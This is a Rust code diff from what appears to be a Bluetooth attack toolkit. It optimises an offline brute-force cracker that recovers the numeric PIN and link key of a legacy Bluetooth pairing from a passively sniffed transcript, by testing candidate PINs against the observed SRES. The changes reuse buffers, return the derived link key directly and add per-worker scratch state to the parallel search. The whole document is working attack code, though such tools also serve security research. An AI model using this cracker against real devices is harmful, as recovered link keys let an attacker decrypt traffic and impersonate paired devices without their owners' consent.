@@ -18,7 +18,7 @@
 use blap_crypto::e1;
 use blap_types::{BdAddr, LinkKey};
 
-use crate::runner::{parallel_search, Jobs};
+use crate::runner::{parallel_search_scratch, Jobs};
 
 /// The cleartext transcript of one legacy pairing plus one authentication,
 /// as a passive sniffer records it.
@@ -79,8 +79,15 @@ impl LegacyPairingCapture {
 
     /// Whether a candidate PIN reproduces the observed `SRES`.
     pub fn pin_matches(&self, pin: &[u8]) -> bool {
+        self.check_pin(pin).is_some()
+    }
+
+    /// [`Self::pin_matches`], but returns the reconstructed link key on a
+    /// hit so the caller need not recompute it — the crack loop's hit path
+    /// previously ran the whole `E22`/`E21` chain a second time.
+    pub fn check_pin(&self, pin: &[u8]) -> Option<LinkKey> {
         let key = self.key_for_pin(pin);
-        e1::e1(&key, &self.au_rand, self.responder).sres == self.sres
+        (e1::e1(&key, &self.au_rand, self.responder).sres == self.sres).then_some(key)
     }
 }
 
@@ -129,7 +136,17 @@ fn pin_space_size(max_digits: u32) -> u64 {
 
 /// The ASCII PIN at a global candidate index (1-digit PINs first, then
 /// 2-digit including leading zeros, and so on — the serial scan order).
-fn pin_for_index(mut index: u64) -> Vec<u8> {
+#[cfg(test)]
+fn pin_for_index(index: u64) -> Vec<u8> {
+    let mut pin = Vec::new();
+    set_pin_for_index(&mut pin, index);
+    pin
+}
+
+/// Writes the PIN at `index` into an existing buffer, reusing its
+/// allocation — workers reseed their odometer with this at non-contiguous
+/// chunk boundaries instead of building a fresh `Vec`.
+fn set_pin_for_index(pin: &mut Vec<u8>, mut index: u64) {
     let mut digits = 1usize;
     let mut block = 10u64;
     while index >= block {
@@ -137,12 +154,12 @@ fn pin_for_index(mut index: u64) -> Vec<u8> {
         block *= 10;
         digits += 1;
     }
-    let mut pin = vec![b'0'; digits];
+    pin.clear();
+    pin.resize(digits, b'0');
     for slot in pin.iter_mut().rev() {
         *slot = b'0' + (index % 10) as u8;
         index /= 10;
     }
-    pin
 }
 
 /// Advances the ASCII candidate buffer in place — the odometer that
@@ -180,24 +197,36 @@ pub fn crack_numeric_pin_with(
     max_digits: u32,
     jobs: Jobs,
 ) -> Option<CrackResult> {
-    parallel_search(jobs, pin_space_size(max_digits), PIN_CHUNK, |start, end| {
-        let mut pin = pin_for_index(start);
-        for index in start..end {
-            if capture.pin_matches(&pin) {
-                let link_key = capture.key_for_pin(&pin);
-                return Some((
-                    index,
-                    CrackResult {
-                        pin,
-                        link_key,
-                        attempts: index as usize + 1,
-                    },
-                ));
+    // Per-worker scratch: the odometer buffer plus the index it is parked
+    // at. Contiguous chunks keep counting; a gap (another worker claimed
+    // the chunk between) reseeds the same buffer.
+    let fresh = || (Vec::with_capacity(16), u64::MAX);
+    parallel_search_scratch(
+        jobs,
+        pin_space_size(max_digits),
+        PIN_CHUNK,
+        fresh,
+        |(pin, parked_at), start, end| {
+            if *parked_at != start {
+                set_pin_for_index(pin, start);
             }
-            advance_pin(&mut pin);
-        }
-        None
-    })
+            for index in start..end {
+                if let Some(link_key) = capture.check_pin(pin) {
+                    return Some((
+                        index,
+                        CrackResult {
+                            pin: pin.clone(),
+                            link_key,
+                            attempts: index as usize + 1,
+                        },
+                    ));
+                }
+                advance_pin(pin);
+            }
+            *parked_at = end;
+            None
+        },
+    )
 }
 
 #[cfg(test)]
